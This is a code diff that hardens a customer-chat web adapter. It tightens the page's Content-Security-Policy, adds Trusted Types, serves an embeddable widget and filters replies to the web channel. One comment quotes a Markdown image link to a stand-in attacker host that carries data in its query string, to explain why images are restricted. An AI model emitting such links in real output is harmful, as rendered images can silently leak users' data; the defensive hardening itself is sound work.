@@ -36,8 +36,30 @@ function parseBody<T>(schema: z.ZodType<T>, value: unknown): T {
 
 const asset = (name: string) => readFileSync(new URL(`./public/${name}`, import.meta.url));
 
-// Our pages load only our own script and style: no inline script, nothing from another host.
-const PAGE_CSP = "default-src 'none'; script-src 'self'; style-src 'self'; connect-src 'self'; img-src 'self' https: data:; base-uri 'none'; form-action 'none'; frame-ancestors 'none'";
+// Our pages load only our own script and styles, talk only to us, and cannot be framed. No inline script or style;
+// Trusted Types are enforced so even a slip into innerHTML would throw instead of parsing markup. Images only from
+// us: a Markdown-style `![i](https://evil.test/?d=…)` could never become a request even if something rendered it.
+const PAGE_CSP = [
+  "default-src 'none'",
+  "script-src 'self'",
+  "style-src 'self'",
+  "connect-src 'self'",
+  "img-src 'self'",
+  "base-uri 'none'",
+  "form-action 'none'",
+  "frame-ancestors 'none'",
+  "require-trusted-types-for 'script'",
+  "trusted-types 'none'",
+].join('; ');
+
+/** The page, the widget and its styles. The widget files may be embedded by any site, so they allow cross-origin use. */
+const STATIC_FILES = [
+  { path: '/', file: 'index.html', type: 'text/html; charset=utf-8', headers: { 'content-security-policy': PAGE_CSP, 'referrer-policy': 'strict-origin-when-cross-origin', 'cache-control': 'no-cache' } },
+  { path: '/site.css', file: 'site.css', type: 'text/css; charset=utf-8', headers: { 'cache-control': 'no-cache' } },
+  { path: '/favicon.svg', file: 'favicon.svg', type: 'image/svg+xml', headers: { 'cache-control': 'public, max-age=86400' } },
+  { path: '/widget.js', file: 'widget.js', type: 'text/javascript; charset=utf-8', headers: { 'cache-control': 'public, max-age=300', 'cross-origin-resource-policy': 'cross-origin' } },
+  { path: '/widget.css', file: 'widget.css', type: 'text/css; charset=utf-8', headers: { 'cache-control': 'public, max-age=300', 'cross-origin-resource-policy': 'cross-origin' } },
+];
 
 export interface WebAdapterOptions {
   context: ChannelContext;
@@ -45,7 +67,7 @@ export interface WebAdapterOptions {
 
 /**
  * The web chat channel: a small JSON API with bearer tokens per conversation, server-sent events for messages that
- * arrive later (a staff reply), and a plain chat page at `/`.
+ * arrive later (a staff reply), the embeddable widget (`/widget.js`) and a demo page at `/` that shows it.
  *
  * @example
  * const web = createWebAdapter({ context });
@@ -56,7 +78,7 @@ export function createWebAdapter(options: WebAdapterOptions): ChannelAdapter & {
   const hub = createEventHub();
   const limiter = createRateLimiter(config.FRONTDESK_WEB_RATE_LIMIT, now);
   const isValidToken = createTokenVerifier(secret);
-  const assets = { html: asset('index.html'), script: asset('chat.js'), style: asset('chat.css') };
+  const staticFiles = STATIC_FILES.map((file) => ({ ...file, body: asset(file.file) }));
 
   const tokenOf = (request: HttpRequest) => {
     const header = request.headers.authorization;
@@ -86,9 +108,9 @@ export function createWebAdapter(options: WebAdapterOptions): ChannelAdapter & {
     deliversFromTranscript: true,
     subscriberCount: hub.subscriberCount,
     mount(routes) {
-      routes.get('/', () => ({ status: 200, headers: { 'content-type': 'text/html; charset=utf-8', 'content-security-policy': PAGE_CSP }, body: assets.html }));
-      routes.get('/chat.js', () => ({ status: 200, headers: { 'content-type': 'text/javascript; charset=utf-8', 'cache-control': 'no-cache' }, body: assets.script }));
-      routes.get('/chat.css', () => ({ status: 200, headers: { 'content-type': 'text/css; charset=utf-8', 'cache-control': 'no-cache' }, body: assets.style }));
+      for (const file of staticFiles) {
+        routes.get(file.path, () => ({ status: 200, headers: { 'content-type': file.type, 'x-content-type-options': 'nosniff', ...file.headers }, body: file.body }));
+      }
 
       routes.post('/api/web/conversations', async (request) => {
         const body = parseBody(NewConversationBody, parseJsonBody(request, { isOptional: true }));
@@ -110,7 +132,8 @@ export function createWebAdapter(options: WebAdapterOptions): ChannelAdapter & {
           customerKey: conversationId,
           text: body.text,
         });
-        const replies = await received.replies;
+        // Only what the customer sees: a turn may also notify the staff console.
+        const replies = (await received.replies).filter((reply) => reply.channel === 'web');
         return { status: 200, body: { messageId: received.message.id, isDuplicate: received.isDuplicate, replies: replies.map(publicMessage) } };
       }, { bodyLimit: WEB_BODY_LIMIT });
 
